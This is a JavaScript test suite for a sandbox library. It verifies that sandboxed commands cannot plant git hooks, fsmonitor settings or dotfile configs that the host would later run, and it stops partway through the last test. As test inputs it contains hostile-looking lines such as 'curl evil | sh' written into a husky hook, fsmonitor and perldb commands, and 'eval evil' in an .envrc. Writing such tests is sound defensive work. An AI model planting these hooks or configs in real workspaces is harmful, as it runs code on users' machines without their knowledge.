'use strict'
// Planted configuration (issue 17), on the real bwrap: repositories anywhere in the workspace keep
// their git directories and hooks read-only, protected names cannot be created or changed at the
// top of the workspace and of each repository, and what mounts cannot prevent (a repository created
// deeper, a protected name in a new directory) is reported in `hostRisks`. Host state is asserted
// from snapshots; nothing the sandbox wrote is ever executed on the host (git runs on the host only
// to build fixtures, before the sandboxed run).

const { describe, test } = require('node:test')
const assert = require('node:assert/strict')
const fs = require('node:fs')
const path = require('node:path')
const { execFileSync, spawnSync } = require('node:child_process')
const { sandspawn, tempTree, treeSnapshot, snapshot, show, sh, q, which, waitFor, token, rmrf, sleep } = require('./helpers')

const HAS_GIT = which('git') !== null
const NO_GIT = !HAS_GIT && 'git is not installed'
const WW = { mode: 'workspace-write' }
const DEFAULT_NAMES = ['.gitmodules', '.gitconfig', '.bashrc', '.bash_profile', '.zshrc', '.zprofile', '.profile', '.envrc', '.mcp.json', '.vscode', '.idea', '.devcontainer']
/** Toolchain selectors that name a program to run (found by an attacker's review: rust-toolchain.toml's `path`). */
const TOOLCHAIN_NAMES = ['rust-toolchain.toml', 'rust-toolchain', 'global.json', '.bazelrc', '.bazeliskrc']

/**
 * `treeSnapshot` without the times of directories: placeholders are created and removed in them
 * (their entries, and everything about files, must be unchanged).
 */
function contentSnapshot(dir) {
  const snap = treeSnapshot(dir)
  for (const s of Object.values(snap)) if (s.type === 'dir') delete s.mtimeMs, delete s.ctimeMs
  return snap
}

/** git on the host, for fixtures only. */
function git(dir, ...args) {
  return execFileSync('git', ['-C', dir, '-c', 'user.name=t', '-c', 'user.email=t@t', '-c', 'protocol.file.allow=always', ...args], { stdio: 'pipe' })
}

function makeRepo(dir) {
  fs.mkdirSync(dir, { recursive: true })
  git(dir, 'init', '-q')
  fs.writeFileSync(path.join(dir, 'file.txt'), 'hello\n')
  git(dir, 'add', 'file.txt')
  git(dir, 'commit', '-qm', 'init')
}

/** One shell line per attempt: `denied <label>` when it failed, `ESCAPED <label>` when it worked. */
function attempts(list) {
  return list.map(([label, cmd]) => `if ( ${cmd} ) >/dev/null 2>&1; then echo ${q(`ESCAPED ${label}`)}; else echo ${q(`denied ${label}`)}; fi`).join('\n')
}

function assertAllDenied(r, list) {
  for (const [label] of list) {
    assert.ok(!r.stdout.includes(`ESCAPED ${label}\n`), `attack "${label}" succeeded\n${show(r)}`)
    assert.ok(r.stdout.includes(`denied ${label}\n`), `attack "${label}" did not report\n${show(r)}`)
  }
  assert.equal(r.exitCode, 0, show(r))
}

/** The attacks on one repository's metadata, relative to the cwd. */
function gitAttacks(rel) {
  const g = path.join(rel, '.git')
  return [
    [`${rel}: append to config`, `printf '[core]\\n\\tfsmonitor = touch /var/tmp/pwned\\n' >> ${q(path.join(g, 'config'))}`],
    [`${rel}: git config`, `git -C ${q(rel)} config core.fsmonitor 'touch /var/tmp/pwned'`],
    [`${rel}: write a hook`, `printf '#!/bin/sh\\n' > ${q(path.join(g, 'hooks/pre-commit'))}`],
    [`${rel}: move .git away`, `mv ${q(g)} ${q(g + '.bak')}`],
  ]
}

describe('existing repositories inside the workspace', { concurrency: 2 }, () => {
  test('nested repositories at depth 1 and 5: config and hooks cannot be written; their files can', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    makeRepo(tree.ws)
    makeRepo(path.join(tree.ws, 'one'))
    makeRepo(path.join(tree.ws, 'a/b/c/d/five'))
    const dirs = ['one', 'a/b/c/d/five'].map((d) => path.join(tree.ws, d, '.git'))
    const before = dirs.map((d) => treeSnapshot(d))
    const list = [...gitAttacks('one'), ...gitAttacks('a/b/c/d/five')]
    const work = 'echo edited > one/file.txt && echo edited > a/b/c/d/five/file.txt && echo new > a/b/c/d/five/new.txt'
    const r = await sh(`${work}\n${attempts(list)}`, { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, list)
    dirs.forEach((d, i) => assert.deepEqual(treeSnapshot(d), before[i], `${d} changed\n${show(r)}`))
    assert.equal(fs.readFileSync(path.join(tree.ws, 'a/b/c/d/five/file.txt'), 'utf8'), 'edited\n', 'ordinary work in a nested repository failed')
    assert.equal(fs.readFileSync(path.join(tree.ws, 'one/file.txt'), 'utf8'), 'edited\n')
    assert.deepEqual(r.hostRisks, [], 'editing files is not a host risk')
  })

  test("a submodule's git directory cannot be written", { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const upstream = path.join(tree.out, 'lib')
    makeRepo(upstream)
    makeRepo(tree.ws)
    git(tree.ws, 'submodule', 'add', '-q', upstream, 'libs/lib')
    git(tree.ws, 'commit', '-qm', 'sub')
    const modules = path.join(tree.ws, '.git/modules/libs/lib')
    assert.ok(fs.statSync(path.join(tree.ws, 'libs/lib/.git')).isFile(), 'a gitdir: file')
    const before = [treeSnapshot(modules), snapshot(path.join(tree.ws, 'libs/lib/.git'))]
    const list = [
      ['config through the submodule', `git -C libs/lib config core.hooksPath /var/tmp`],
      ['hook in .git/modules', `printf '#!/bin/sh\\n' > ${q(path.join(modules, 'hooks/post-checkout'))}`],
      ['rewrite the gitdir: file', `echo "gitdir: /var/tmp" > libs/lib/.git`],
    ]
    const r = await sh(`echo edited > libs/lib/file.txt\n${attempts(list)}`, { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, list)
    assert.deepEqual([treeSnapshot(modules), snapshot(path.join(tree.ws, 'libs/lib/.git'))], before, show(r))
    assert.equal(fs.readFileSync(path.join(tree.ws, 'libs/lib/file.txt'), 'utf8'), 'edited\n')
  })

  // An attacker's review (hostb38): a clone without --recurse-submodules leaves each submodule's
  // path an empty directory, and the host's `git status` at the superproject's top runs
  // `git status --porcelain=2` in every submodule whose path holds a `.git` (is_submodule_modified):
  // a `.git` file a run writes there, naming a repository of its own, has that repository's
  // `core.fsmonitor` run by the user's next `git status` in the workspace, not only in `libs/lib`
  // (checked by hand with git 2.47.3, outside any sandbox). Not preventable by a mount (the path is
  // the project's); it held: the `.git` made is `repository-created`, naming the key.
  test("an unpopulated submodule's path given a .git of the run's is reported, naming what it runs", { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const upstream = path.join(tree.out, 'lib')
    const superproject = path.join(tree.out, 'super')
    makeRepo(upstream)
    makeRepo(superproject)
    git(superproject, 'submodule', 'add', '-q', upstream, 'libs/lib')
    git(superproject, 'commit', '-qm', 'sub')
    execFileSync('git', ['clone', '-q', superproject, tree.ws], { stdio: 'pipe' })
    assert.deepEqual(fs.readdirSync(path.join(tree.ws, 'libs/lib')), [], 'the submodule is not checked out')
    const r = await sh(
      `git init -q notes/w && git -C notes/w config core.fsmonitor 'touch /var/tmp/never' && echo 'gitdir: ../../notes/w/.git' > libs/lib/.git`,
      { cwd: tree.ws, sandbox: WW },
    )
    assert.equal(r.exitCode, 0, show(r))
    const risk = r.hostRisks.find((h) => h.path === path.join(tree.ws, 'libs/lib/.git'))
    assert.ok(risk && risk.kind === 'repository-created' && risk.detail.includes('core.fsmonitor'), JSON.stringify(r.hostRisks))
  })

  // A process remembers each repository's hooks directory between runs, and on Linux stops looking
  // at it at all while inotify says nothing it was read from changed (`planted/armed.rs`). The host
  // then changes it, each way it can; the next run must protect the new one.
  test('a hooks directory configured on the host between two runs of one process is protected in the next run', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const lib = path.join(tree.ws, 'deps/lib')
    makeRepo(lib)
    const config = path.join(lib, '.git/config')
    const changes = [
      ['git config (a new file renamed over it)', 'hooks-a', () => git(lib, 'config', 'core.hooksPath', 'hooks-a')],
      ['written in place', 'hooks-b', () => fs.appendFileSync(config, '[core]\n\thooksPath = hooks-b\n')],
      ['written through a hard link outside .git', 'hooks-c', () => {
        const link = path.join(tree.ws, 'deps/config-link')
        fs.linkSync(config, link)
        fs.appendFileSync(link, '[core]\n\thooksPath = hooks-c\n')
      }],
      ['config.worktree added', 'hooks-d', () => {
        git(lib, 'config', 'extensions.worktreeConfig', 'true')
        fs.writeFileSync(path.join(lib, '.git/config.worktree'), '[core]\n\thooksPath = hooks-d\n')
      }],
    ]
    for (const [, dir] of changes) fs.mkdirSync(path.join(lib, dir))
    for (const [how, dir, change] of changes) {
      // Older than a second: remembered and watched, not read again (`repo::facts`).
      await new Promise((r) => setTimeout(r, 1100))
      for (let i = 0; i < 2; i++) assert.equal((await sandspawn.spawnSandboxed(['true'], { cwd: tree.ws, sandbox: WW })).exitCode, 0)
      change()
      const list = [[`write ${dir}/pre-commit after ${how}`, `printf '#!/bin/sh\\n' > deps/lib/${dir}/pre-commit`]]
      const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
      assertAllDenied(r, list)
      assert.deepEqual(fs.readdirSync(path.join(lib, dir)), [], show(r))
    }
  })

  // Found by an attacker's review: a config git reads but sandspawn could not (a byte that is not
  // UTF-8, a UTF-8 byte order mark) had its core.hooksPath ignored: the hooks directory was writable.
  const HOOKS_PATH = Buffer.from('[core]\n\thooksPath = .githooks\n')
  const ODD_CONFIGS = [
    ['a Latin-1 byte', (config) => Buffer.concat([config, HOOKS_PATH, Buffer.from('[user]\n\tname = J\xf6rg\n', 'latin1')])],
    ['a byte order mark', (config) => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), HOOKS_PATH, config])],
  ]
  for (const [label, rewrite] of ODD_CONFIGS) {
    test(`the hooks directory named by a config with ${label} is read-only`, { skip: NO_GIT }, async (t) => {
      const tree = tempTree(t)
      makeRepo(tree.ws)
      const config = path.join(tree.ws, '.git/config')
      fs.writeFileSync(config, rewrite(fs.readFileSync(config)))
      assert.equal(git(tree.ws, 'config', 'core.hooksPath').toString().trim(), '.githooks', 'git reads it')
      fs.mkdirSync(path.join(tree.ws, '.githooks'))
      const list = [['write .githooks/pre-commit', `printf '#!/bin/sh\\n' > .githooks/pre-commit`]]
      const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
      assertAllDenied(r, list)
      assert.deepEqual(fs.readdirSync(path.join(tree.ws, '.githooks')), [], show(r))
    })
  }

  // Found by an attacker's review: a bare repository in the workspace (a local remote) was neither
  // read-only nor reported, and the host's next `git push` to it ran the hook the run wrote there.
  test('an existing bare repository (and a folder that is a git directory) cannot be written; the host\'s git push runs no planted hook', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    makeRepo(tree.ws)
    git(tree.out, 'init', '-q', '--bare', path.join(tree.ws, 'remote.git'))
    git(tree.ws, 'remote', 'add', 'origin', './remote.git')
    git(tree.ws, 'push', '-q', 'origin', 'HEAD:main')
    git(tree.out, 'init', '-q', '--bare', path.join(tree.ws, 'a/b/deep'))
    const marker = path.join(tree.out, 'PWNED')
    const hook = `#!/bin/sh\ntouch ${marker}\n`
    const list = ['remote.git', 'a/b/deep'].flatMap((d) => [
      [`${d}: write a hook`, `printf '%s' ${q(hook)} > ${d}/hooks/pre-receive && chmod +x ${d}/hooks/pre-receive`],
      [`${d}: git config`, `git --git-dir=${d} config core.fsmonitor ${q(`touch ${marker}`)}`],
      [`${d}: move it away`, `mv ${d} ${d}.bak`],
    ])
    const before = ['remote.git', 'a/b/deep'].map((d) => treeSnapshot(path.join(tree.ws, d)))
    const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, list)
    assert.deepEqual(['remote.git', 'a/b/deep'].map((d) => treeSnapshot(path.join(tree.ws, d))), before, show(r))
    fs.writeFileSync(path.join(tree.ws, 'file.txt'), 'two\n')
    git(tree.ws, 'commit', '-qam', 'two')
    git(tree.ws, 'push', '-q', 'origin', 'HEAD:main')
    assert.equal(fs.existsSync(marker), false, "the host's git push ran a hook the run planted")
  })

  for (const hooksPath of ['.husky', '.husky/_']) {
    test(`husky-style core.hooksPath=${hooksPath}: .husky and .husky/_ cannot be written`, { skip: NO_GIT }, async (t) => {
      const tree = tempTree(t)
      const repo = path.join(tree.ws, 'app')
      makeRepo(repo)
      fs.mkdirSync(path.join(repo, '.husky/_'), { recursive: true })
      fs.writeFileSync(path.join(repo, '.husky/pre-commit'), 'npm test\n')
      fs.writeFileSync(path.join(repo, '.husky/_/h'), '#!/bin/sh\n')
      git(repo, 'config', 'core.hooksPath', hooksPath)
      const before = treeSnapshot(path.join(repo, '.husky'))
      const list = [
        ['overwrite .husky/pre-commit', `echo 'curl evil | sh' > app/.husky/pre-commit`],
        ['new .husky/post-checkout', `printf '#!/bin/sh\\n' > app/.husky/post-checkout`],
        ['new .husky/_/pre-push', `printf '#!/bin/sh\\n' > app/.husky/_/pre-push`],
        ['replace .husky', `rm -rf app/.husky`],
      ]
      const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
      assertAllDenied(r, list)
      assert.deepEqual(treeSnapshot(path.join(repo, '.husky')), before, show(r))
    })
  }
})

describe('the repository above the workspace: a package of a monorepo as the cwd', () => {
  // Found by an attacker's review: only a `.git` at a root's top and the repositories the walk
  // finds inside the roots were looked at. husky's documented monorepo layout has the repository's
  // top above the package (`"prepare": "cd .. && husky frontend/.husky"`, core.hooksPath
  // `frontend/.husky/_`); with the package as the cwd its hooks directory lies in the writable root:
  // a run wrote .husky/pre-commit, hostRisks was [], and the host's `git commit` at the top ran it.
  const benign = '#!/bin/sh\nexit 0\n'
  const cases = {
    "husky's monorepo layout (core.hooksPath frontend/.husky/_)": {
      pkg: 'frontend',
      hooksPath: 'frontend/.husky/_',
      files: { '.husky/_/pre-commit': '#!/bin/sh\nexec sh "$(dirname "$0")/../pre-commit"\n', '.husky/pre-commit': 'exit 0\n' },
      writes: ['.husky/pre-commit', '.husky/_/pre-commit', '.husky/post-checkout', '.husky/_/pre-push'],
    },
    'a plain core.hooksPath (pkg/hooks)': { pkg: 'pkg', hooksPath: 'pkg/hooks', files: { 'hooks/pre-commit': benign }, writes: ['hooks/pre-commit', 'hooks/post-commit'] },
    'a core.hooksPath deeper in the package (pkg/tools/../tools/githooks)': { pkg: 'pkg', hooksPath: './pkg/tools/../tools/githooks', files: { 'tools/githooks/pre-commit': benign }, writes: ['tools/githooks/pre-commit'] },
  }
  for (const [name, { pkg, hooksPath, files, writes }] of Object.entries(cases)) {
    test(`${name}: its hooks cannot be written, and the host's git commit at the top runs none`, { skip: NO_GIT }, async (t) => {
      const tree = tempTree(t)
      const top = path.join(tree.ws, 'mono')
      const cwd = path.join(top, pkg)
      fs.mkdirSync(cwd, { recursive: true })
      for (const [f, text] of Object.entries(files)) {
        fs.mkdirSync(path.dirname(path.join(cwd, f)), { recursive: true })
        fs.writeFileSync(path.join(cwd, f), text, { mode: 0o755 })
      }
      makeRepo(top)
      git(top, 'config', 'core.hooksPath', hooksPath)
      const marker = path.join(tree.out, 'PWNED')
      const hook = `#!/bin/sh\ntouch ${marker}\n`
      const hooksTree = path.join(cwd, writes[0].split('/')[0])
      const before = contentSnapshot(hooksTree)
      const list = [
        ...writes.map((w) => [`write ${w}`, `printf '%s' ${q(hook)} > ${w} && chmod +x ${w}`]),
        [`replace ${path.dirname(writes[0])}`, `mv ${path.dirname(writes[0])} moved && mkdir -p ${path.dirname(writes[0])} && printf '%s' ${q(hook)} > ${writes[0]}`],
      ]
      const r = await sh(`echo edited > work.txt\n${attempts(list)}`, { cwd, sandbox: WW })
      assertAllDenied(r, list)
      assert.deepEqual(contentSnapshot(hooksTree), before, show(r))
      assert.equal(fs.readFileSync(path.join(cwd, 'work.txt'), 'utf8'), 'edited\n', 'ordinary work in the package failed')
      fs.writeFileSync(path.join(top, 'file.txt'), 'two\n')
      git(top, 'commit', '-qam', 'two')
      assert.equal(fs.existsSync(marker), false, "the host's git commit at the monorepo's top ran a hook the run planted")
    })
  }

  test('a hooks directory that does not exist yet is not created for the host (kept absent, reported)', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const top = path.join(tree.ws, 'mono')
    const cwd = path.join(top, 'pkg')
    fs.mkdirSync(cwd, { recursive: true })
    makeRepo(top)
    git(top, 'config', 'core.hooksPath', 'pkg/githooks')
    const marker = path.join(tree.out, 'PWNED')
    const r = await sh(`mkdir -p githooks && printf '#!/bin/sh\\ntouch ${marker}\\n' > githooks/pre-commit && chmod +x githooks/pre-commit; echo done`, { cwd, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.ok(!fs.existsSync(path.join(cwd, 'githooks/pre-commit')), `the hook stayed: ${show(r)}\n${JSON.stringify(r.hostRisks)}`)
    fs.writeFileSync(path.join(top, 'file.txt'), 'two\n')
    git(top, 'commit', '-qam', 'two')
    assert.equal(fs.existsSync(marker), false, "the host's git commit ran a hook the run planted")
  })
})

/** Each default name, created where missing and changed where present, at `dir` (relative). */
function nameAttacks(dir, present) {
  return DEFAULT_NAMES.map((n) => {
    const p = path.join(dir, n)
    return present.includes(n) ? [`change ${p}`, `echo pwned >> ${q(p)} || echo pwned > ${q(path.join(p, 'x'))}`] : [`create ${p}`, `echo pwned > ${q(p)} || mkdir -p ${q(p)}/x`]
  })
}

describe('protectedNames', () => {
  test('each default name cannot be changed where it exists, at the top of the workspace and of a nested repository', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const repo = path.join(tree.ws, 'nested/repo')
    makeRepo(repo)
    fs.writeFileSync(path.join(tree.ws, '.envrc'), 'export A=1\n')
    fs.mkdirSync(path.join(repo, '.vscode'))
    fs.writeFileSync(path.join(repo, '.vscode/tasks.json'), '{}\n')
    const before = contentSnapshot(tree.ws)
    const list = [['change ./.envrc', `echo pwned >> .envrc`], ['change nested/repo/.vscode', `echo pwned > nested/repo/.vscode/tasks.json`], ['add to nested/repo/.vscode', `echo x > nested/repo/.vscode/new.json`]]
    const r = await sh(attempts(list), { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, list)
    assert.deepEqual(contentSnapshot(tree.ws), before, show(r))
    assert.deepEqual(r.hostRisks, [], show(r))
  })

  // Issue 28: a missing name is kept absent without a placeholder (which git, npm pack, tar and
  // ls -A showed as the user's data): what the command creates there is moved aside, and reported.
  test('each missing default name created at the top of the workspace and of a nested repository is moved aside and reported; nothing of sandspawn is listed', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const repo = path.join(tree.ws, 'nested/repo')
    makeRepo(repo)
    const listing = 'ls -A; ls -A nested/repo; git -C nested/repo status --porcelain; echo ---'
    const create = (dir) => DEFAULT_NAMES.map((n) => `echo pwned > ${q(path.join(dir, n))} 2>/dev/null || mkdir -p ${q(path.join(dir, n))}/x`).join('; ')
    const r = await sh(`${listing}; ${create('.')}; ${create('nested/repo')}; true`, { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.equal(r.stdout.split('---')[0], 'nested\n.git\nfile.txt\n', `no placeholder is visible\n${show(r)}`)
    for (const dir of [tree.ws, repo]) {
      for (const n of DEFAULT_NAMES) {
        assert.equal(fs.existsSync(path.join(dir, n)), false, `${path.join(dir, n)} stayed`)
        assert.ok(r.hostRisks.some((h) => h.path === path.join(dir, n) && h.kind === 'protected-name-created' && /moved aside/.test(h.detail)), `${n} in ${dir}: ${JSON.stringify(r.hostRisks)}`)
      }
    }
  })

  // Found by an attacker's review: rust-toolchain.toml naming a `path` toolchain made the host's next
  // `cargo --version` in the workspace run the run's program; global.json's `sdk.paths`, .bazelrc's
  // startup options and .bazeliskrc's BAZELISK_HOME do the same for dotnet, bazel and bazelisk.
  test('toolchain selectors: changed where they exist, created where they do not, at the top of the workspace and of a nested repository: refused or moved aside and reported', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    const repo = path.join(tree.ws, 'nested/repo')
    makeRepo(repo)
    for (const n of TOOLCHAIN_NAMES) fs.writeFileSync(path.join(repo, n), '# kept\n')
    const before = contentSnapshot(repo)
    const change = TOOLCHAIN_NAMES.map((n) => [`change nested/repo/${n}`, `echo pwned >> ${q(path.join('nested/repo', n))}`])
    const create = TOOLCHAIN_NAMES.map((n) => `echo '[toolchain]' > ${q(n)}`).join('; ')
    const r = await sh(`${attempts(change)}\n${create}; true`, { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, change)
    assert.deepEqual(contentSnapshot(repo), before, show(r))
    for (const n of TOOLCHAIN_NAMES) {
      assert.equal(fs.existsSync(path.join(tree.ws, n)), false, `${n} stayed`)
      assert.ok(r.hostRisks.some((h) => h.path === path.join(tree.ws, n) && h.kind === 'protected-name-created' && /moved aside/.test(h.detail)), `${n}: ${JSON.stringify(r.hostRisks)}`)
    }
  })

  // Found by an attacker's review (later16): a run wrote `.perldb` at the workspace's top and the
  // host's `perl -d hello.pl` there ran it (perl5db checks only its owner and that it is not
  // world-writable), with `hostRisks: []`. The same kind: GHCi's, OCaml's, Octave's, erl's rc
  // files (protected); R's `.Rprofile` and `.Renviron`, sbt's `.sbtopts` and `.jvmopts`, which
  // renv, usethis and sbt's templates write (reported).
  test('debuggers\' and REPLs\' rc files at the top of the workspace are refused or moved aside and reported; R\'s and sbt\'s are reported', async (t) => {
    const tree = tempTree(t)
    const kept = ['.perldb', '.ghci', '.ocamlinit', '.octaverc', '.erlang']
    const reported = ['.Rprofile', '.Renviron', '.sbtopts', '.jvmopts']
    fs.writeFileSync(path.join(tree.ws, '.perldb'), '1;\n')
    const change = [['change ./.perldb', 'echo \'system("touch /tmp/pwned-perldb");\' >> .perldb']]
    const create = [...kept.slice(1), ...reported].map((n) => `echo x > ${q(n)}`).join('; ')
    const r = await sh(`${attempts(change)}\n${create}; true`, { cwd: tree.ws, sandbox: WW })
    assertAllDenied(r, change)
    assert.equal(fs.readFileSync(path.join(tree.ws, '.perldb'), 'utf8'), '1;\n')
    for (const n of kept.slice(1)) {
      assert.equal(fs.existsSync(path.join(tree.ws, n)), false, `${n} stayed`)
      assert.ok(r.hostRisks.some((h) => h.path === path.join(tree.ws, n) && h.kind === 'protected-name-created' && /moved aside/.test(h.detail)), `${n}: ${JSON.stringify(r.hostRisks)}`)
    }
    for (const n of reported) {
      assert.equal(fs.readFileSync(path.join(tree.ws, n), 'utf8'), 'x\n', `${n} is report-only`)
      assert.ok(r.hostRisks.some((h) => h.path === path.join(tree.ws, n) && h.kind === 'protected-name-created'), `${n}: ${JSON.stringify(r.hostRisks)}`)
    }
    // A missing .perldb is kept absent too.
    fs.rmSync(path.join(tree.ws, '.perldb'))
    const again = await sh('echo 1 > .perldb; true', { cwd: tree.ws, sandbox: WW })
    assert.equal(fs.existsSync(path.join(tree.ws, '.perldb')), false, show(again))
    assert.ok(again.hostRisks.some((h) => h.path === path.join(tree.ws, '.perldb') && /moved aside/.test(h.detail)), JSON.stringify(again.hostRisks))
  })

  test(".bazelversion (a fork's release to download and run) is report-only: created, and reported", async (t) => {
    const tree = tempTree(t)
    const r = await sh('echo attacker/1.0 > .bazelversion', { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.equal(fs.readFileSync(path.join(tree.ws, '.bazelversion'), 'utf8'), 'attacker/1.0\n')
    assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['protected-name-created', path.join(tree.ws, '.bazelversion')]])
    assert.match(r.hostRisks[0].detail, /fork/)
  })

  // Found by an attacker's review: a report-only name that is a directory was judged by its own
  // ctime, which a file rewritten in place inside it leaves alone: `.bundle/config` pointed at
  // another Gemfile (Ruby Bundler loads) was changed with `hostRisks: []`.
  test('.bundle: a file inside it rewritten in place, or deeper, is reported; one too large to judge says so', async (t) => {
    const tree = tempTree(t)
    const bundle = path.join(tree.ws, '.bundle')
    fs.mkdirSync(path.join(bundle, 'plugin'), { recursive: true })
    fs.writeFileSync(path.join(bundle, 'config'), '---\nBUNDLE_PATH: "vendor/bundle"\n')
    fs.writeFileSync(path.join(bundle, 'plugin/index'), '---\n')
    for (const write of ['printf -- \'---\\nBUNDLE_GEMFILE: "planted.rb"\\n\' > .bundle/config', 'echo x >> .bundle/plugin/index']) {
      const r = await sh(write, { cwd: tree.ws, sandbox: WW })
      assert.equal(r.exitCode, 0, show(r))
      assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['protected-name-created', bundle]], write)
      assert.match(r.hostRisks[0].detail, /changed during the run/)
    }
    const quiet = await sh('cat .bundle/config > /dev/null', { cwd: tree.ws, sandbox: WW })
    assert.deepEqual(quiet.hostRisks, [], 'read only: nothing to say')
    fs.mkdirSync(path.join(bundle, 'ruby'))
    for (let i = 0; i < 4100; i++) fs.writeFileSync(path.join(bundle, 'ruby', String(i)), '')
    const big = await sh('true', { cwd: tree.ws, sandbox: WW })
    assert.deepEqual(big.hostRisks.map((h) => [h.kind, h.path]), [['scan-incomplete', bundle]], show(big))
    assert.match(big.hostRisks[0].detail, /more than 4096 entries/)
  })

  // Found by a review of the fix above: a report-only name that is a symlink (a dotfile manager's
  // `.python-version -> shared/pv`, `.bundle/config -> ../shared/bcfg`) was stamped by the link
  // alone, and the file it leads to, rewritten, went unreported.
  test('report-only names that are symlinks: their targets rewritten are reported', async (t) => {
    const tree = tempTree(t)
    fs.mkdirSync(path.join(tree.ws, 'shared'))
    fs.mkdirSync(path.join(tree.ws, '.bundle'))
    for (const f of ['pv', 'bcfg']) fs.writeFileSync(path.join(tree.ws, 'shared', f), 'orig\n')
    fs.symlinkSync('shared/pv', path.join(tree.ws, '.python-version'))
    fs.symlinkSync('../shared/bcfg', path.join(tree.ws, '.bundle/config'))
    const r = await sh('echo 3.99 > shared/pv; echo \'BUNDLE_GEMFILE: "x.rb"\' >> .bundle/config', { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    const got = r.hostRisks.map((h) => [h.kind, h.path]).sort()
    assert.deepEqual(got, [['protected-name-created', path.join(tree.ws, '.bundle')], ['protected-name-created', path.join(tree.ws, '.python-version')]], show(r))
  })

  test('protectedNames: [] allows them', async (t) => {
    const tree = tempTree(t)
    const r = await sh(DEFAULT_NAMES.map((n) => `echo ok > ${q(n)}`).join(' && '), { cwd: tree.ws, sandbox: { ...WW, protectedNames: [] } })
    assert.equal(r.exitCode, 0, show(r))
    for (const n of DEFAULT_NAMES) assert.equal(fs.readFileSync(path.join(tree.ws, n), 'utf8'), 'ok\n', n)
  })

  test('a custom list replaces the defaults', async (t) => {
    const tree = tempTree(t)
    const r = await sh('mkdir -p .claude/x; echo ok > .envrc', { cwd: tree.ws, sandbox: { ...WW, protectedNames: ['.claude'] } })
    assert.equal(fs.readFileSync(path.join(tree.ws, '.envrc'), 'utf8'), 'ok\n')
    assert.equal(fs.existsSync(path.join(tree.ws, '.claude')), false, '.claude was moved aside')
    assert.deepEqual(r.hostRisks.map((h) => h.path), [path.join(tree.ws, '.claude')])
  })

  test('invalid lists reject with ERR_SANDBOX_INVALID_OPTIONS and run nothing', async (t) => {
    const tree = tempTree(t)
    const marker = path.join(tree.out, 'ran')
    for (const bad of ['.envrc', ['a/b'], ['.git'], [''], [1], ['..'], ['a"b']]) {
      await assert.rejects(sh(`touch ${q(marker)}`, { cwd: tree.ws, sandbox: { ...WW, protectedNames: bad } }), (e) => e instanceof sandspawn.SandboxError && e.code === 'ERR_SANDBOX_INVALID_OPTIONS' && /protectedNames/.test(e.message))
    }
    await assert.rejects(sh('true', { sandbox: { mode: 'danger-full-access', protectedNames: ['.envrc'] } }), /protectedNames/)
    assert.equal(fs.existsSync(marker), false)
  })
})

describe('hostRisks: what mounts cannot prevent is reported', () => {
  test('an ordinary run reports hostRisks: []', async (t) => {
    const tree = tempTree(t)
    const r = await sh('mkdir -p src/deep && echo x > src/deep/a.txt', { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.deepEqual(r.hostRisks, [])
    const ro = await sh('true', { cwd: tree.ws })
    assert.deepEqual(ro.hostRisks, [], 'read-only')
    const none = await sh('true', { cwd: tree.ws, sandbox: 'danger-full-access' })
    assert.deepEqual(none.hostRisks, [], 'no sandbox')
  })

  test('git init + a planted core.fsmonitor in a new subdirectory is reported with its path', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    makeRepo(tree.ws)
    const pwned = path.join(tree.out, token('pwned'))
    const script = `mkdir -p tools/new && cd tools/new && git init -q && git config core.fsmonitor ${q(`touch ${pwned}`)} && printf '#!/bin/sh\\ntouch ${pwned}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`
    const r = await sh(script, { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    const dotGit = path.join(tree.ws, 'tools/new/.git')
    const repo = r.hostRisks.find((h) => h.kind === 'repository-created')
    assert.ok(repo, show(r) + JSON.stringify(r.hostRisks))
    assert.equal(repo.path, dotGit)
    assert.match(repo.detail, /core\.fsmonitor/)
    const hooks = r.hostRisks.find((h) => h.kind === 'hooks-written')
    assert.ok(hooks && hooks.path === path.join(dotGit, 'hooks') && /pre-commit/.test(hooks.detail), JSON.stringify(r.hostRisks))
    assert.equal(r.hostRisks.length, 2, JSON.stringify(r.hostRisks))
    assert.equal(fs.existsSync(pwned), false, 'nothing ran on the host')
  })

  test('a protected name created inside a new directory is reported; an empty one is not', async (t) => {
    const tree = tempTree(t)
    const r = await sh('mkdir -p pkg/a && echo "eval evil" > pkg/a/.envrc && mkdir -p pkg/b && touch pkg/b/.envrc', { cwd: tree.ws, sandbox: WW })
    assert.equal(r.exitCode, 0, show(r))
    assert.deepEqual(r.hostRisks.map((h) => [h.kind, h.path]), [['protected-name-created', path.join(tree.ws, 'pkg/a/.envrc')]])
    assert.match(r.hostRisks[0].detail, /direnv/)
  })

  test('runWithEscalation keeps the sandboxed attempt\'s hostRisks', { skip: NO_GIT }, async (t) => {
    const tree = tempTree(t)
    // Sandboxed: plants a repository, then hits a read-only path (a denial). Unsandboxed: nothing.
    const script = `if [ -n "$SANDSPAWN_SANDBOX" ]; then git init -q sub/repo && echo x > ${q(path.join(tree.out, 'x'))}; fi`
